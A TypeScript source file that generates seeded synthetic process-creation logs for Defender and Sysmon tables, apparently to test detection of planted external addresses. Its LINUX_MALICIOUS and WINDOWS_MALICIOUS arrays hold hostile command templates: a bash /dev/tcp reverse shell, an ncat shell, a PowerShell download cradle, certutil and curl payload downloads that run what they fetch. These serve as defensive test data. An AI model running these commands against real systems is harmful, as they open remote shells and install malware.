/**
 * A deterministic (seeded) generator of process creations for the sources other than SecurityEvent: Defender for
 * Endpoint `DeviceProcessEvents` (Windows and Linux devices), Sysmon event 1 in `Event` (EventData as the XML text the
 * Log Analytics agent stores, entities escaped) and in `WindowsEvent` (EventData as a dynamic bag, as the Azure Monitor
 * Agent stores it). For tests, `npm start` and `sample`.
 */
import { createHash } from 'node:crypto';
import { seededRandom } from '../seededRandom.js';

export interface ProcessEventTables {
  readonly DeviceProcessEvents: Record<string, unknown>[];
  readonly Event: Record<string, unknown>[];
  readonly WindowsEvent: Record<string, unknown>[];
}

export interface GenerateProcessEventsOptions {
  /** Rows per table. */
  readonly rows: number;
  readonly seed: number;
  readonly start: Date;
  readonly days: number;
  /** Share of lines holding an external address (default 0.02). */
  readonly maliciousRate?: number;
}

export interface GeneratedProcessEvents {
  readonly tables: ProcessEventTables;
  /** External addresses planted per table, sorted. */
  readonly plantedIps: Readonly<Record<keyof ProcessEventTables, string[]>>;
}

const LINUX_BENIGN: readonly (readonly [string, string])[] = [
  ['/usr/bin/bash', 'bash -c "ls -la /var/log"'],
  ['/usr/bin/curl', 'curl -s http://10.0.{n}.{m}:8080/healthz'],
  ['/usr/bin/ssh', 'ssh deploy@192.168.{n}.{m} uptime'],
  ['/usr/bin/python3', 'python3 -m pip install requests==2.31.0'],
  ['/usr/bin/ping', 'ping -c 1 127.0.0.1'],
];
const LINUX_MALICIOUS: readonly (readonly [string, string])[] = [
  ['/usr/bin/bash', 'bash -c "bash -i >& /dev/tcp/{ip}/4444 0>&1"'],
  ['/usr/bin/curl', 'curl -fsSL http://{ip}/x.sh -o /dev/shm/.x'],
  ['/usr/bin/wget', 'wget -q http://{ip}:8000/kinsing -O /dev/shm/kinsing'],
  ['/usr/bin/ncat', 'ncat {ip} 9001 -e /bin/sh'],
];
const WINDOWS_BENIGN: readonly (readonly [string, string])[] = [
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ping 10.0.{n}.{m} -n 1'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -Command "Get-Service | Where-Object Status -eq \'Running\'"'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c net use Z: \\\\192.168.{n}.{m}\\share & dir Z:'],
];
const WINDOWS_MALICIOUS: readonly (readonly [string, string])[] = [
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://{ip}/a.ps1\')"'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f "http://{ip}/p.exe" C:\\Users\\Public\\p.exe'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c curl.exe -o %TEMP%\\b.exe http://{ip}/b.exe && %TEMP%\\b.exe'],
];

// Globally routable first octets (no special-purpose space), distinct from the SecurityEvent sample's pool.
const FIRST_OCTETS = [41, 49, 58, 61, 101, 103, 110, 112, 119, 125, 175, 180, 186, 196, 200, 201];

/** The five predefined XML entities, as an XML writer escapes text and attribute values. */
export function xmlEscape(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');
}

/** Sysmon event 1's EventData as the Log Analytics agent stores it in `Event.EventData`. */
export function sysmonEventXml(data: Readonly<Record<string, string>>, time: string): string {
  const items = Object.entries(data)
    .map(([name, value]) => (value === '' ? `<Data Name="${name}" />` : `<Data Name="${name}">${xmlEscape(value)}</Data>`))
    .join('');
  return `<DataItem type="System.XmlData" time="${time}" sourceHealthServiceId="00000000-0000-0000-0000-000000000000"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">${items}</EventData></DataItem>`;
}

/** Generates `rows` rows per table over `days` days from `start`; the same options give the same rows. */
export function generateProcessEvents(options: GenerateProcessEventsOptions): GeneratedProcessEvents {
  const random = seededRandom(options.seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const int = (min: number, max: number) => min + Math.floor(random() * (max - min + 1));
  const pool = Array.from({ length: 6 }, () => `${pick(FIRST_OCTETS)}.${int(0, 255)}.${int(0, 255)}.${int(10, 254)}`);
  const rate = options.maliciousRate ?? 0.02;
  const time = () => new Date(options.start.getTime() + Math.floor(random() * options.days * 86_400_000)).toISOString();
  const line = (benign: typeof LINUX_BENIGN, malicious: typeof LINUX_MALICIOUS, planted: Set<string>): [string, string] => {
    if (random() < rate) {
      const ip = pick(pool);
      planted.add(ip);
      const [image, text] = pick(malicious);
      return [image, text.replace('{ip}', ip)];
    }
    const [image, text] = pick(benign);
    return [image, text.replace('{n}', String(int(0, 254))).replace('{m}', String(int(10, 254)))];
  };
  const fileName = (image: string) => image.slice(Math.max(image.lastIndexOf('\\'), image.lastIndexOf('/')) + 1);
  const planted = { DeviceProcessEvents: new Set<string>(), Event: new Set<string>(), WindowsEvent: new Set<string>() };

  const defender = Array.from({ length: options.rows }, (_, i) => {
    const linux = i % 2 === 0;
    const [image, commandLine] = linux ? line(LINUX_BENIGN, LINUX_MALICIOUS, planted.DeviceProcessEvents) : line(WINDOWS_BENIGN, WINDOWS_MALICIOUS, planted.DeviceProcessEvents);
    const host = linux ? `lnx-web${int(1, 4)}.contoso.com` : `ws-${int(100, 120)}.contoso.com`;
    const at = time();
    return {
      TimeGenerated: at,
      Timestamp: at,
      DeviceId: createHash('sha1').update(host).digest('hex'),
      DeviceName: host,
      ActionType: 'ProcessCreated',
      FileName: fileName(image),
      FolderPath: image,
      ProcessCommandLine: commandLine,
      // Defender reports a Linux account's domain as the device name and gives it no SID.
      AccountDomain: linux ? host.split('.')[0] : 'contoso',
      AccountName: linux ? pick(['root', 'www-data', 'deploy']) : pick(['alice', 'bob', 'carol']),
      AccountSid: linux ? '' : `S-1-5-21-1004336348-1177238915-682003330-${int(1100, 1110)}`,
      Type: 'DeviceProcessEvents',
    };
  });

  const sysmonData = (at: string, planted: Set<string>) => {
    const [image, commandLine] = line(WINDOWS_BENIGN, WINDOWS_MALICIOUS, planted);
    return {
      RuleName: '-',
      UtcTime: at.replace('T', ' ').replace('Z', ''),
      ProcessGuid: `{${createHash('md5').update(at + commandLine).digest('hex').replace(/^(.{8})(.{4})(.{4})(.{4})(.{12})$/, '$1-$2-$3-$4-$5')}}`,
      ProcessId: String(int(1000, 9000)),
      Image: image,
      FileVersion: '10.0.19041.1',
      CommandLine: commandLine,
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: `CONTOSO\\${pick(['dave', 'erin', 'frank'])}`,
      IntegrityLevel: 'Medium',
      ParentImage: 'C:\\Windows\\explorer.exe',
    };
  };
  const event = Array.from({ length: options.rows }, () => {
    const at = time();
    const data = sysmonData(at, planted.Event);
    return {
      TimeGenerated: at,
      Source: 'Microsoft-Windows-Sysmon',
      EventLog: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      EventLevel: 4,
      EventLevelName: 'Information',
      Computer: `SRV-SYS${int(1, 3)}.contoso.local`,
      EventData: sysmonEventXml(data, at),
      RenderedDescription: 'Process Create:',
      UserName: 'NT AUTHORITY\\SYSTEM',
      Type: 'Event',
    };
  });
  const windowsEvent = Array.from({ length: options.rows }, () => {
    const at = time();
    return {
      TimeGenerated: at,
      Provider: 'Microsoft-Windows-Sysmon',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      EventLevel: 4,
      EventLevelName: 'Information',
      Computer: `WKS-AMA${int(1, 3)}.contoso.local`,
      EventData: sysmonData(at, planted.WindowsEvent),
      Type: 'WindowsEvent',
    };
  });
  const sorted = (s: Set<string>) => [...s].sort();
  return {
    tables: { DeviceProcessEvents: defender, Event: event, WindowsEvent: windowsEvent },
    plantedIps: { DeviceProcessEvents: sorted(planted.DeviceProcessEvents), Event: sorted(planted.Event), WindowsEvent: sorted(planted.WindowsEvent) },
  };
}
